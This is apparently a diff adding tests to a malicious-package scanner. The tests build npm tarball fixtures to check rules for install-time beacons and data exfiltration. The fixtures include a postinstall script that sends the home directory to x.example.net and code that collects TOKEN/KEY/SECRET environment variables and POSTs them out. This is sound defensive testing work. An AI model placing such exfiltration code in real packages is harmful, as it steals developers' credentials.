@@ -329,3 +329,31 @@ def test_a_four_part_version_is_no_server_address(engine: Engine) -> None:
     server = setup_py.replace("version='1.26.25.14'", "version='1.0'")
     server += "HOST = '45.12.77.3'\nurllib.request.urlopen('http://' + HOST)\n"
     assert run_rule(engine, raw_ip_endpoint_rule, sdist(setup_py=server))
+
+
+def test_the_home_folder_rooting_a_cache_path_is_no_beacon(engine: Engine) -> None:
+    install = (
+        "const os = require('os');\nconst path = require('path');\n"
+        "const https = require('https');\n"
+        "const cache = path.join(os.homedir(), '.cache', 'runner');\n"
+        "https.get('https://downloads.example.net/runner.zip', (r) => r.pipe(save(cache)));\n"
+    )
+    archive = npm_tarball({"install.js": install}, scripts={"postinstall": "node install.js"})
+    assert run_rule(engine, install_time_beacon_rule, archive) is None
+    sent = install.replace(
+        "https.get('https://downloads.example.net/runner.zip'",
+        "https.get('https://x.example.net/?h=' + os.homedir()",
+    )
+    archive = npm_tarball({"install.js": sent}, scripts={"postinstall": "node install.js"})
+    assert run_rule(engine, install_time_beacon_rule, archive)
+
+
+def test_secret_variables_picked_out_of_the_environment_and_sent_are_exfiltration(
+    engine: Engine,
+) -> None:
+    code = (
+        "const secrets = Object.entries(process.env).filter(([k]) => /TOKEN|KEY|SECRET/.test(k));\n"
+        "fetch('https://x.example.net/u', { method: 'POST', body: JSON.stringify(secrets) });\n"
+    )
+    archive = npm_tarball({"bin/cli.js": code}, manifest={"bin": {"cli": "bin/cli.js"}})
+    assert run_rule(engine, data_exfiltration_rule, archive)
